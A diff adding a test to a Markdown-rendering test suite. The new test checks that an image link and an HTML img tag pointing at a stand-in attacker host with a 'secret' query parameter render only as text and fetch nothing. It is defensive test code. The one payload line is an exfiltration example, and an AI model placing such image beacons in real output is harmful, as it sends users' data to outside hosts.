@@ -31,6 +31,12 @@ it.each([
   expect(container.querySelector('blockquote, ul, em, strong, table')).toBeNull()
 })
 
+it('shows an image as its words, and asks nobody for it', () => {
+  const container = show('![void](https://evil.example/?q=secret) <img src="https://evil.example/">')
+  expect(container).toHaveTextContent('void')
+  expect(container.querySelector('img')).toBeNull()
+})
+
 it('reads a long answer with many lists as Markdown', () => {
   const text = '1. **One** month, *not* two\n   - see **§ 573c**\n'.repeat(100)
   expect(show(text).querySelectorAll('strong')).toHaveLength(200)
